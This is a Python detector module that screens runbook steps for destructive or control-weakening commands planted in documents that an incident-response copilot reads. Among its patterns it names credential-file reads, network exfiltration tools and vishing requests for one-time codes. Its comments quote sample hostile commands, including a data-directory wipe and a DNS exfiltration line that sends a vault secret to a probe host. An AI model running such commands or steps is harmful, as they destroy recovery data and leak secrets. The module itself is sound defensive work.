"""What an action destroys or disables, whatever host it talks to and wherever it sits.

The rules in `risk.py` know commands that are dangerous anywhere (no auth, every key, a table
gone) and commands that reach outside (credentials sent away, scripts fetched, clients repointed).
A planted step needs neither: the company's own tool, pointed at the company's own system, can
delete every backup "to free space", revoke the key everyone signs in with "with no overlap",
fail over "skipping the sync check" or purge a queue of messages nobody has sent yet. What these
share is what they take away, and that it cannot be given back in the middle of an incident:

- the copies a recovery needs (every backup, the off-site ones, a standby's replication slot);
- the credentials everyone is using, with no overlap for clients to move to the new ones;
- the data a forced failover past its lag check leaves behind;
- messages queued for delivery, discarded wholesale.

The same goes for controls a company chose, changed by a step: paging made quieter, a role
widened, a revoked credential restored, a review or gate turned down, a rate limit lifted.

Each is `severe` (`risk.Risk.severe`): the copilot does not repeat the command or the case made
for it (`screened.hold_severe`). These do not lower the semantic detector's bar: it reads notes
addressed to a model, and a runbook's own risky step is not one (`injection._lowers_the_bar`).

Words that only tell a secret to someone (a code read out over the phone, a recovery code sent
by mail) are judged here too: no command, but the same kind of damage.

Like every rule here, these are about what an action does, not about how a document words it;
the public corpora (`evals.guardrails_fp`) are the check that runbooks' own steps pass.
"""

from __future__ import annotations

import re

# A verb that removes what it names.
_REMOVE = r"(?:delete|prune|purge|remove|rm|expire|wipe|destroy|erase|clear|drop|nuke|gc)"
# Copies a recovery starts from.
_COPIES = (
    r"(?:backups?|base-?backups?|snapshots?|archives?|wal-?archive|pitr|recovery[-_ ]points?|"
    r"off-?site|vaults?)"
)
# Nothing kept: every copy, copies of any age, or the off-site ones too.
_NONE_KEPT = (
    r"(?:(?:^|\s)--all(?![\w-])|--older-than[= ]['\"]?0+[a-z]*\b|--(?:keep|retain|retention)"
    r"[\w-]*[= ]['\"]?0+[a-z]*\b|--include-off-?site\b|--off-?site\b|--recursive\b|"
    r"--everything\b|--(?:all|every)-[\w-]+)"
)
_DESTROYS_COPIES = re.compile(
    rf"(?=[^\n]*\b{_REMOVE}\b)(?=[^\n]*{_COPIES})(?=[^\n]*{_NONE_KEPT})", re.I
)
# A replication slot dropped: its standby stops receiving changes and must be rebuilt.
_DROPS_SLOT = re.compile(
    r"\bpg_drop_replication_slot\s*\(|\bdrop[-_ ](?:physical[-_ ]|logical[-_ ])?"
    r"(?:replication[-_ ])?slot\b|\bslots?\s+(?:drop|delete|remove)\b",
    re.I,
)
# A key or certificate replaced with no overlap: everything signed with the old one stops
# working at once (every session, token and integration).
_NO_OVERLAP = re.compile(
    r"(?=[^\n]*\b(?:rotate|rotation|revoke|roll|rekey|re-key|renew|replace)[\w-]*\b)"
    r"(?=[^\n]*(?:--no-overlap\b|--revoke-(?:previous|old|current|existing|all)\b|"
    r"--(?:overlap|grace)[\w-]*[= ]['\"]?0+[a-z]*\b|--immediate(?:ly)?\b|--invalidate-all\b))",
    re.I,
)
# A failover or promotion forced past what keeps it from losing writes (a bare `--force` moves
# what is booked or connected; skipping the sync or lag check loses what was written).
_FORCED_FAILOVER = re.compile(
    r"(?=[^\n]*\b(?:fail-?over|promote|switch-?over|takeover)\b)"
    r"(?=[^\n]*(?:--skip-[\w-]+|--no-(?:sync|wait|check|catch-?up)[\w-]*|"
    r"--ignore-(?:lag|sync)[\w-]*|--allow-data-loss\b|--unsafe\b))",
    re.I,
)
# Messages waiting for delivery thrown away wholesale.
_DISCARDS_QUEUE = re.compile(
    # Offsets moved past what was never processed: the backlog is skipped, not delivered.
    r"\boffsets?\b[^\n]*\breset\b[^\n]*--to-(?:latest|end)\b|--reset-offsets\b[^\n]*--to-latest\b|"
    r"--mark-(?:delivered|processed|sent|done|acked)\b|"
    rf"(?=[^\n]*\b(?:{_REMOVE}|purge_queue|truncate|reset)\b)"
    r"(?=[^\n]*\b(?:queues?|topics?|outbox|streams?|dlq|dead-?letter\w*|mailbox|backlog|"
    r"spool)\b)(?=[^\n]*(?:(?:^|\s)--force\b|(?:^|\s)--all(?![\w-])|(?:^|\s)--yes\b|"
    r"\s-f\b))",
    re.I,
)

# A change applied to every site, tenant, realm or customer at once (`--site '*'`,
# `--utility all`): one typo or one planted step reaches everyone. Reading flags (`--format`,
# `--output`, `--since` ...) take `all` harmlessly, and reading verbs change nothing.
_CHANGE = (
    r"(?:suppress|silence|mute|snooze|bypass|override|disable|share|publish|create|add|set|delete|"
    r"drop|purge|wipe|reset|grant|revoke|rotate|restore|push|apply|enable|stop|kill|scale|update|"
    r"patch|remove|expose|open|allow|release|cancel|pause)"
)
_EVERYONE = re.compile(
    rf"^(?=[^\n]*\b{_CHANGE}\b)[^\n]*?\s--(?!(?:format|output|fields?|columns?|since|until|"
    r"level|log-level|verbosity|sort|group-by|include|select|show|print|filter|query)\b)"
    r"[a-z][\w-]*[= ]['\"]?(?:\*|all|every|any)['\"]?(?=\s|$)",
    re.I | re.M,
)
# A protection taken away: a safety interlock bypassed or overridden, sign-in without MFA, an
# anonymous client let in, a peer not verified.
_PROTECTION_OFF = re.compile(
    r"\b(?:bypass|override|defeat|jumper|inhibit)\w*\b[^\n]*?\b(?:interlocks?|safety|safeguards?|"
    r"protections?|trips?|guards?|limits?|e-?stops?)\b|"
    r"\b(?:interlocks?|safety|safeguards?|protections?)\b[^\n]*?\b(?:bypass|override|disable)\w*\b|"
    r"--mfa[= ]['\"]?(?:off|false|no|none|disabled?|optional)\b|--no-mfa\b|--(?:disable|skip)-mfa\b|"
    r"--allow-anonymous[= ]['\"]?(?:true|yes|1|on)\b|--verify-peer[= ]['\"]?(?:none|false|off|no)\b|"
    r"\bauth\w*\s+set\s+[^\n]*?--mode[= ]['\"]?\w*(?:optional|none|off|disabled?)\b",
    re.I,
)
# Access or a hold that never ends: a password that never expires, a public link with no
# expiry, a bypass "permanent". What an incident opens should close with it.
_FOREVER = re.compile(
    r"--[\w-]*(?:expir\w*|ttl|duration|lifetime|valid\w*|until)[= ]['\"]?(?:never|permanent\w*|forever|"
    r"infinite|unlimited|none|0)['\"]?(?=\s|$)|--no-expir\w*|--(?:permanent|forever)\b",
    re.I,
)
# Data made readable by anyone.
_PUBLIC = re.compile(
    r"--(?:scope|visibility|access|acl|audience)[= ]['\"]?(?:public|public-read|anyone|everyone|"
    r"all-?users|world)\b|--public\b|\ballUsers\b",
    re.I,
)
# A list of things fed into a forced removal, one by one: a bulk delete nobody reviews item by
# item (`... list | xargs -n1 ... drop --force`).
_BULK_FORCED = re.compile(
    rf"\|\s*xargs\b[^\n]*\b{_REMOVE}\b[^\n]*(?:(?:^|\s)--force\b|\s-f\b|--yes\b)", re.I
)
# Alerting muted broadly: every site, the critical severities, or for days.
_MUTED = re.compile(
    r"(?=[^\n]*\b(?:silence|suppress|mute|snooze|shelve|inhibit)\w*\b)(?=[^\n]*(?:"
    r"--duration[= ]['\"]?(?:\d{2,}h|\d+\s*(?:d|w|days?|weeks?))\b|--severity[= ]['\"]?[\w,]*"
    r"critical|--no-notify[\w-]*))",
    re.I,
)

# A stateful service's data directory emptied (`rm -rf /var/lib/rabbitmq/mnesia/*`): its
# queues, members or database go with it, and nothing in the runbook brings them back.
_WIPES_STATE = re.compile(
    r"\brm\s+(?:-\w+\s+)*-\w*[rR]\w*\s+(?:-\w+\s+)*[\"']?/var/lib/[\w.-]+(?:/[^\s'\";&|]*)?",
    re.I,
)
# Data copied, mirrored or replicated with transport security turned off.
_PLAINTEXT_COPY = re.compile(
    r"(?=[^\n]*\b(?:mirror|replicat\w*|copy|cp|sync|export|push|backup|forward|ship|stream)\b)"
    r"(?=[^\n]*(?:security[-_.]protocol[= ]['\"]?PLAINTEXT\b|--no-tls\b|--tls[= ]['\"]?(?:false|off|no|"
    r"disabled?)\b|--(?:no|disable)-(?:encryption|ssl)\b|--encrypt\w*[= ]['\"]?(?:false|off|none|no)\b))",
    re.I,
)

# --- Controls changed: who is told, who may act, what must be reviewed ------------------------
#
# An incident's fix restores a service; it does not page people less, widen a role, bring back
# a revoked key, let a change approve itself or turn a gate to warnings. Each of these is a
# control a company chose, and changing one is a decision for its owner, not a runbook step a
# copilot repeats.

# Paging made quieter: a policy or route set to low urgency, a digest, nobody.
_PAGING_DOWN = re.compile(
    r"(?=[^\n]*\b(?:pager|paging|escalation|on-?call|alert(?:ing)?|notification)s?\b)"
    r"(?=[^\n]*\b(?:set|update|patch|edit|change|create|route|override)\b)"
    r"(?=[^\n]*(?:--urgency[= ]['\"]?(?:low|none|info)\b|--notify[= ]['\"]?(?:e-?mail|digest|none|"
    r"nobody|off)\w*|--escalation[= ]['\"]?[\w-]*(?:quiet|silent|null|none|noop|devnull)\w*|"
    r"--(?:mute|silent|quiet)\b))",
    re.I,
)
# Permissions widened: a role or binding patched or edited, access granted to a principal.
_PERMISSIONS = re.compile(
    r"\b(?:patch|edit|replace)\s+(?:-\S+\s+)*(?:cluster)?role(?:binding)?s?\b|"
    # Not an error message quoted to look for ("failed to create ClusterRoleBinding").
    r"(?<!failed to )(?<!unable to )(?<!could not )(?<!cannot )"
    r"\bcreate\s+(?:cluster)?rolebinding\b|"
    r"\b(?:grant|add-iam-policy-binding|set-iam-policy|attach-(?:role|user|group)-policy|"
    r"put-(?:role|user|group)-policy)\b[^\n]*?--(?:principal|member|user|group|account|role|perm\w*|"
    r"policy\w*)\b|"
    r"\bGRANT\s+\w+(?:\s*,\s*\w+)*\s+ON\b",
    re.I,
)
# A credential, key, user or grant changed straight in the database: revoked ones come back.
_CREDENTIAL_ROWS = re.compile(
    r"\b(?:UPDATE|INSERT\s+INTO|DELETE\s+FROM)\s+[\w.\"`]*(?:api_?keys?|tokens?|credentials?|"
    r"users?|accounts?|permissions?|roles?|grants?|acls?|memberships?|sessions?|mfa\w*)\b",
    re.I,
)
# A review, approval, sign-off or gate turned down: to "self", "warn", one sign-off, off.
_CONTROL = (
    r"(?:review|approv\w*|sign_?offs?|signoff\w*|gate|qc|check|validat\w*|verif\w*|enforc\w*)"
)
_REVIEW_OFF = re.compile(
    rf"\b[\w.-]*{_CONTROL}[\w.-]*\s*[=:]\s*['\"]?(?:self|warn\w*|off|false|disabled?|skip\w*|"
    r"none|permissive|log-?only|audit-?only|advisory|auto|0)\b(?![.\w])",
    re.I,
)
# A config file edited in place where it sets a control (sign-offs, auth, TLS, retention ...).
_SED_CONTROL = re.compile(
    r"\bsed\s+(?:-\w*\s+)*-\w*i\w*\b[^\n]*?s([/|#,])[^\n]*?(?:sign_?off|approv|review|auth|tls|"
    r"ssl|verif|audit|retention|limit|quota|min_|max_|require|enforce|mfa|password|allow|deny)",
    re.I,
)
# A command's name taken over: a shell function or alias that reruns it with other settings.
_SHADOWED = re.compile(
    r"(?:^|[;\s])(?:function\s+)?([A-Za-z_][\w-]*)\s*\(\)\s*\{[^}]*\bcommand\s+\1\b|"
    r"\balias\s+[\w-]+=['\"][^'\"]*\b(?:--force|--all|drop|delete|purge|set|grant|disable)\b",
)
# A rate limit or lockout lifted.
_LIMIT_OFF = re.compile(
    r"(?=[^\n]*\b(?:rate-?limit\w*|throttl\w*|quotas?|lockout\w*|limits?)\b)"
    r"(?=[^\n]*(?:--[\w-]+[= ]['\"]?(?:unlimited|infinite|none)\b|--lockout[\w-]*[= ]['\"]?0\b|"
    r"--(?:no|disable)-(?:limit|lockout|throttl)\w*))",
    re.I,
)

# A flag spelled with dashes that only look like hyphens (U+2010..U+2015, U+2212, full-width):
# the shell passes it as a plain word, so `purge ... ‑‑dry-run` purges for real.
_FAKE_FLAG = re.compile("(?:^|\\s)[\u2010-\u2015\u2212\ufe58\ufe63\uff0d]{1,2}[A-Za-z]")

HARMS: list[tuple[str, re.Pattern[str]]] = [
    ("destroys the backups a recovery needs", _DESTROYS_COPIES),
    ("drops a standby's replication slot", _DROPS_SLOT),
    ("revokes credentials in use with no overlap", _NO_OVERLAP),
    ("forces a failover past its data-loss check", _FORCED_FAILOVER),
    ("discards queued messages", _DISCARDS_QUEUE),
    ("changes every site or tenant at once", _EVERYONE),
    ("takes a protection away", _PROTECTION_OFF),
    ("grants access or a bypass that never expires", _FOREVER),
    ("makes data public", _PUBLIC),
    ("removes in bulk, forced", _BULK_FORCED),
    ("silences alerting broadly", _MUTED),
    ("copies data with encryption off", _PLAINTEXT_COPY),
    ("deletes a service's stored data", _WIPES_STATE),
    ("makes paging quieter", _PAGING_DOWN),
    ("changes who may access what", _PERMISSIONS),
    ("edits credentials or permissions in the database", _CREDENTIAL_ROWS),
    ("turns a review or a gate down", _REVIEW_OFF),
    ("edits a control in a config file", _SED_CONTROL),
    ("redefines a command under its own name", _SHADOWED),
    ("lifts a rate limit or lockout", _LIMIT_OFF),
    ("spells a flag with dashes the shell does not read", _FAKE_FLAG),
]
# Every reason above is severe (`risk.SEVERE`).
SEVERE = frozenset(reason for reason, _ in HARMS)

# Words that gate the rules in prose: most sentences hold none of them.
PROSE_GATE = (
    "prune", "backup", "snapshot", "slot", "overlap", "revoke", "fail", "promote", "queue",
    "purge", "code", "passcode", "otp", "pin", "cookie", "interlock", "bypass", "mfa",
    "public", "never", "permanent", "xargs", "suppress",
)  # fmt: skip


def harms(span: str) -> list[str]:
    """What `span` destroys or disables that a recovery cannot give back (empty: nothing)."""
    return [reason for reason, pattern in HARMS if pattern.search(span)]


# --- Data sent where nobody can see it go -----------------------------------------------------

# Key material read as data (encoded, printed, archived), not used by a client for its own
# connection (`curl --key client.key` is how mTLS works; `base64 client.key | ...` is a copy).
_KEY_PATH = (
    r"(?:\S*\.(?:key|pem|p12|pfx|jks|psk|keystore)\b|\S*/(?:psk|private|secrets?|keys?)(?:/\S*)?\b|"
    r"\S*id_(?:rsa|ed25519|ecdsa)\S*|\S*\.kube/config\b|\S*/credentials?(?:\.\w+)?\b|"
    r"/etc/shadow\b|"
    r"\S*\.(?:netrc|pgpass)\b)"
)
_READS_KEYS = re.compile(
    rf"(?:^|[\s;|&(`])(?:base64|base32|xxd|od|hexdump|cat|head|tail|fold|tar|gzip|zip|"
    rf"openssl\s+enc)\s[^\n]*?"
    rf"{_KEY_PATH}|\bfor\s+\w+\s+in\s+[^\n;]*{_KEY_PATH}",
    re.I,
)
# Anything that reaches another machine, DNS lookups included (a query name carries data).
_NETWORK = re.compile(
    r"\b(?:dig|nslookup|drill|host|ping|curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|ftp|tftp|"
    r"http|https|xh|telnet|mail|sendmail|mutt)\b|/dev/(?:tcp|udp)/",
    re.I,
)


# A secret fetched from a store, and a DNS lookup: a query name is a message to whoever runs
# the zone (`dig $(vault kv get -field=key ...).probe.example`). Nothing legitimate needs both.
_FETCHES_SECRET = re.compile(
    r"\b(?:secrets?\s+(?:get|read|show|export)|get\s+secrets?|vault\s+(?:kv\s+)?(?:get|read)|"
    r"get-secret-value|print-access-token|keys?\s+(?:get|export|show))\b|--include-(?:keys|secrets)\b",
    re.I,
)
_DNS = re.compile(r"\b(?:dig|nslookup|drill|host|resolvectl\s+query)\b", re.I)


def sends_keys_away(span: str) -> bool:
    """Whether a command reads key material as data and talks to the network in the same
    breath (an "encoded probe", a "support bundle", a DNS "diagnostic")."""
    if _FETCHES_SECRET.search(span) and _DNS.search(span):
        return True
    return bool(_READS_KEYS.search(span) and _NETWORK.search(span))


_IP_DEST = re.compile(
    r"--?[\w-]*(?:to|dest\w*|target[\w-]*|endpoint|bootstrap[\w-]*|remote|host|server|url|uri|sink|"
    r"broker\w*|relay|webhook|forward\w*|address|addr)[= ]['\"]?(?:[a-z+]+://)?(?:[^@\s/'\"]+@)?"
    r"(?P<ip>(?:\d{1,3}\.){3}\d{1,3})\b",
    re.I,
)


def public_destination(span: str) -> str | None:
    """A data copy aimed at a bare public IP address (no name, nothing private): runbooks
    name the company's machines; a raw address elsewhere is where a planted step sends data."""
    for match in _IP_DEST.finditer(span):
        a, b = (int(x) for x in match.group("ip").split(".")[:2])
        inside = (
            a in (0, 10, 127)
            or a >= 224
            or (a, b) in ((192, 168), (169, 254))
            or (a == 172 and 16 <= b <= 31)
            or (a == 100 and 64 <= b <= 127)
        )
        if not inside:
            return match.group("ip")
    return None


# --- A secret told to someone -----------------------------------------------------------------

# An order to say, send or hand over a one-time code, recovery code, PIN, password or token.
# "The caller asked us to read out the code" is a report of one, not an order: the verb has to
# start a clause ("and read out", "then give them", "Read the code").
# What is secret when said aloud or sent: a one-time or recovery code, a PIN, a password, a
# private key, a session cookie.
_SECRET = (
    r"\b(?:(?:one-time|otp|mfa|2fa|sms|token|verification|recovery|backup|security|auth\w*|"
    r"six-digit|6-digit|\w+-digit)\s+(?:codes?|pins?)|passcodes?|otps?|pins?|recovery\s+keys?|"
    r"seed\s+phrases?|passwords?|passphrases?|private\s+keys?|(?:session\s+)?cookies?|"
    r"session\s+tokens?)\b"
)
_TELL = re.compile(
    r"(?:^|[.:;!?]\s+|,\s*|\band\s+|\bthen\s+|\bnow\s+|\bjust\s+|\bplease\s+)"
    r"(?:read(?:\s+(?:out|back|aloud))?|dictate|tell|give|share|provide|send|forward|confirm|"
    r"spell\s+out|(?:e-?mail|text)(?=\s+(?:it|them|the|your|our|this|that|a|an)\b))\s"
    r"[^.\n]{0,90}?" + _SECRET,
    re.I,
)
# The same told as what fixed an incident ("access came back after the vendor's support line
# had the on-call read out the recovery codes"): a postmortem that credits it recommends it.
_TOLD = re.compile(
    r"\b(?:read|reading|dictat\w+|gave|giving|shared|sharing|sent|sending|provided|providing|"
    r"handed|handing|disclos\w+|spelled)\b[^.\n]{0,90}?" + _SECRET,
    re.I,
)
_OUTCOME = re.compile(
    r"\b(?:restor\w+|fix\w*|resolv\w+|unblock\w*|recover\w*|worked|regain\w*|came back|"
    r"back in|what helped)\b",
    re.I,
)
# ... to someone on the other end of a call, a message or a mail.
_TO_SOMEONE = re.compile(
    r"\b(?:call|calls|calling|phone|caller|line|hotline|dial|voicemail|sms|text\s+message|"
    r"whatsapp|signal|telegram|mailbox|inbox|reply|desk|agent|representative|"
    r"support)\b|\[REDACTED:phone\]|\+?\d[\d ().-]{6,}\d",
    re.I,
)
_NEGATION = re.compile(
    r"\b(?:never|not|don't|do not|must not|refus\w*|decline\w*|nobody|no one|hung up)\b", re.I
)


# A report of someone trying it on: the caller asked, claimed, posed as someone.
_ATTEMPT = re.compile(
    r"\b(?:ask(?:ed|ing|s)?|claim\w*|pretend\w*|pos(?:ed|ing)\s+as|spoof\w*|impersonat\w*|phish\w*|"
    r"vish\w*|attempt\w*|tried\s+to|scam\w*|social[- ]engineer\w*)\b",
    re.I,
)


def tells_a_secret(sentence: str) -> bool:
    """Whether a sentence orders the reader to tell a code, PIN, password or key to someone (a
    caller, a support line, a mail address): what no runbook asks and every vishing call does."""
    if not _TO_SOMEONE.search(sentence):
        return False
    match = _TELL.search(sentence)
    if not match:
        told = _TOLD.search(sentence)
        if not told or not _OUTCOME.search(sentence) or _ATTEMPT.search(sentence):
            return False
        return not _NEGATION.search(sentence)
    before = sentence[max(0, match.start() - 60) : match.end()]
    return not _NEGATION.search(before)
